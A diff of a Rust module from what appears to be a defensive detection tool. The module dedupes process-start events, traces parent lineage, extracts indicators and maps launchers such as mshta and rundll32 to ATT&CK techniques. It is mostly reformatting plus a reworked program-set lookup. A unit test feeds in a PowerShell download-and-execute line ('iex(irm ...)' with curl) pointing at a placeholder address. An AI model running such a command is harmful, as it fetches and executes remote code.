@@ -16,9 +16,27 @@ use crate::schema::{Col, common, process as t};
 
 /// Columns of `process` that the functions here read; signals over processes list them as a whole.
 pub const COLUMNS: &[Col] = &[
-    common::ACTION, common::USER, common::USER_DOMAIN, common::LOGON_ID, t::PID, t::PROC_GUID, t::IMAGE, t::IMAGE_NAME,
-    t::CMDLINE, t::ORIG_NAME, t::SHA256, t::SHA1, t::MD5, t::PPID, t::PARENT_GUID, t::PARENT_IMAGE, t::PARENT_NAME,
-    t::PARENT_CMDLINE, t::GPARENT_IMAGE, t::SIGNER, t::SIG_STATUS,
+    common::ACTION,
+    common::USER,
+    common::USER_DOMAIN,
+    common::LOGON_ID,
+    t::PID,
+    t::PROC_GUID,
+    t::IMAGE,
+    t::IMAGE_NAME,
+    t::CMDLINE,
+    t::ORIG_NAME,
+    t::SHA256,
+    t::SHA1,
+    t::MD5,
+    t::PPID,
+    t::PARENT_GUID,
+    t::PARENT_IMAGE,
+    t::PARENT_NAME,
+    t::PARENT_CMDLINE,
+    t::GPARENT_IMAGE,
+    t::SIGNER,
+    t::SIG_STATUS,
 ];
 
 /// Two sensors write the start of one process within this time: Sysmon 1 and Security 4688 lie milliseconds apart. [J]
@@ -31,13 +49,20 @@ pub const QUOTE: usize = 300;
 pub fn starts<'a>(rows: View<'a>) -> Vec<Row<'a>> {
     let mut out: Vec<Row<'a>> = Vec::with_capacity(rows.len());
     let mut sources = Vec::new();
-    for row in rows.iter().filter(|r| r.text(common::ACTION) == Some("start")) {
+    for row in rows
+        .iter()
+        .filter(|r| r.text(common::ACTION) == Some("start"))
+    {
         if !sources.contains(&row.id(common::SOURCE)) {
             sources.push(row.id(common::SOURCE));
         }
         out.push(row);
     }
-    if sources.len() > 1 { without_twins(out) } else { out }
+    if sources.len() > 1 {
+        without_twins(out)
+    } else {
+        out
+    }
 }
 
 fn without_twins(starts: Vec<Row<'_>>) -> Vec<Row<'_>> {
@@ -51,7 +76,10 @@ fn without_twins(starts: Vec<Row<'_>>) -> Vec<Row<'_>> {
         let key = (row.id(common::HOST), pid, row.id(t::IMAGE_NAME));
         let twin = last.get(&key).and_then(|at| out.get_mut(*at));
         match twin {
-            Some(twin) if row.ts() - twin.ts() <= TWIN_US && twin.id(common::SOURCE) != row.id(common::SOURCE) => {
+            Some(twin)
+                if row.ts() - twin.ts() <= TWIN_US
+                    && twin.id(common::SOURCE) != row.id(common::SOURCE) =>
+            {
                 if richness(row) > richness(*twin) {
                     *twin = row;
                 }
@@ -67,7 +95,14 @@ fn without_twins(starts: Vec<Row<'_>>) -> Vec<Row<'_>> {
 
 /// How many of the telling columns a record fills.
 fn richness(row: Row<'_>) -> usize {
-    let telling = [t::CMDLINE, t::PARENT_IMAGE, t::PARENT_CMDLINE, t::PROC_GUID, t::ORIG_NAME, t::SHA256];
+    let telling = [
+        t::CMDLINE,
+        t::PARENT_IMAGE,
+        t::PARENT_CMDLINE,
+        t::PROC_GUID,
+        t::ORIG_NAME,
+        t::SHA256,
+    ];
     telling.iter().filter(|c| row.id(**c) != NO_STR).count()
 }
 
@@ -98,12 +133,19 @@ impl<'a> Lineage<'a> {
     /// The start of a row's parent: by its GUID, else the last start of its process id before the row, if that was
     /// the program which the row names as its parent.
     pub fn parent(&self, row: Row<'a>) -> Option<Row<'a>> {
-        if let Some(parent) = self.by_guid.get(&row.id(t::PARENT_GUID)).filter(|p| p.at() != row.at()) {
+        if let Some(parent) = self
+            .by_guid
+            .get(&row.id(t::PARENT_GUID))
+            .filter(|p| p.at() != row.at())
+        {
             return Some(*parent);
         }
         let of_pid = self.by_pid.get(&row.int(t::PPID)?)?;
         let before = of_pid.partition_point(|p| p.ts() <= row.ts());
-        let parent = before.checked_sub(1).and_then(|i| of_pid.get(i)).filter(|p| p.at() != row.at())?;
+        let parent = before
+            .checked_sub(1)
+            .and_then(|i| of_pid.get(i))
+            .filter(|p| p.at() != row.at())?;
         let named = row.id(t::PARENT_NAME);
         (named == NO_STR || named == parent.id(t::IMAGE_NAME)).then_some(*parent)
     }
@@ -130,11 +172,29 @@ pub fn names(row: Row<'_>) -> (String, String) {
     }
 }
 
-/// Whether a program is one of these, by either of its [`names`].
+/// Whether a program is one of these (a sorted set of [`crate::knowledge::programs`]), by either of its [`names`].
 pub fn is_one_of(row: Row<'_>, set: &[&str]) -> bool {
-    use crate::knowledge::programs::contains;
-    let (image, original) = names(row);
-    contains(set, &image) || (!original.is_empty() && contains(set, &original))
+    let image = row.str(t::IMAGE_NAME);
+    if in_set(set, stem(image)) {
+        return true;
+    }
+    let original = row.str(t::ORIG_NAME);
+    // Nearly every program carries its own name: only the others are worth a lower-case copy.
+    if original.len() < 2 || original.eq_ignore_ascii_case(image) {
+        return false;
+    }
+    let (_, original) = names(row);
+    !original.is_empty() && in_set(set, &original)
+}
+
+/// As [`crate::knowledge::programs::contains`] for a stem that is lower case already, without a copy.
+pub fn in_set(set: &[&str], stem: &str) -> bool {
+    !stem.is_empty()
+        && (set.binary_search(&stem).is_ok()
+            || set
+                .iter()
+                .filter_map(|entry| entry.strip_suffix('*'))
+                .any(|prefix| stem.starts_with(prefix)))
 }
 
 /// A quotation of at most [`QUOTE`] characters, on one line.
@@ -149,14 +209,20 @@ pub fn quote(text: &str) -> String {
 
 /// What a program was started with, for a sentence: its command line, else its path, else its name.
 pub fn command(row: Row<'_>) -> String {
-    let text = row.text(t::CMDLINE).or_else(|| row.text(t::IMAGE)).unwrap_or(row.str(t::IMAGE_NAME));
+    let text = row
+        .text(t::CMDLINE)
+        .or_else(|| row.text(t::IMAGE))
+        .unwrap_or(row.str(t::IMAGE_NAME));
     quote(text)
 }
 
 /// Indicators of a start: hash and path of a program outside the folders of administrators, URLs of its command line.
 pub fn iocs(row: Row<'_>) -> Vec<Ioc> {
     let mut out = Vec::new();
-    if let Some(path) = row.text(t::IMAGE).filter(|p| !paths::is_protected(p) && base_name(p).len() < p.len()) {
+    if let Some(path) = row
+        .text(t::IMAGE)
+        .filter(|p| !paths::is_protected(p) && base_name(p).len() < p.len())
+    {
         if let Some(hash) = row.text(t::SHA256) {
             out.push(Ioc::Sha256(hash.to_owned()));
         }
@@ -191,7 +257,11 @@ pub fn technique_of(program: &str, command: &str) -> Option<&'static str> {
         "bash" | "sh" | "wsl" => "T1059.004",
         "wscript" | "cscript" => {
             let lower = command.to_ascii_lowercase();
-            if lower.contains(".js") || lower.contains("//e:jscript") { "T1059.007" } else { "T1059.005" }
+            if lower.contains(".js") || lower.contains("//e:jscript") {
+                "T1059.007"
+            } else {
+                "T1059.005"
+            }
         }
         "mshta" => "T1218.005",
         "rundll32" => "T1218.011",
@@ -225,7 +295,13 @@ pub mod testing {
     }
 
     /// The same with process ids.
-    pub fn start_as(sample: &mut Sample, time: &str, child: (Option<i64>, &str), parent: (Option<i64>, &str), line: &str) {
+    pub fn start_as(
+        sample: &mut Sample,
+        time: &str,
+        child: (Option<i64>, &str),
+        parent: (Option<i64>, &str),
+        line: &str,
+    ) {
         sample.row(&t::TABLE, "ws01", time, |b| {
             for (col, pid) in [(t::PID, child.0), (t::PPID, parent.0)] {
                 if let Some(pid) = pid {
@@ -241,7 +317,12 @@ pub mod testing {
     }
 
     /// The hits of one signal on one start.
-    pub fn hits_of(signal: &dyn crate::signals::Signal, image: &str, parent: &str, line: &str) -> Vec<crate::signals::Hit> {
+    pub fn hits_of(
+        signal: &dyn crate::signals::Signal,
+        image: &str,
+        parent: &str,
+        line: &str,
+    ) -> Vec<crate::signals::Hit> {
         let mut sample = Sample::default();
         start(&mut sample, "2026-03-02T09:00:00Z", image, parent, line);
         sample.hits(signal)
@@ -254,7 +335,8 @@ mod tests {
 
     #[test]
     fn urls_end_where_their_quotes_end() {
-        let found = urls("iex(irm 'http://192.0.2.1/a'); curl http://192.0.2.1/a https://b.example/x?y=1)");
+        let found =
+            urls("iex(irm 'http://192.0.2.1/a'); curl http://192.0.2.1/a https://b.example/x?y=1)");
         assert_eq!(
             found,
             [
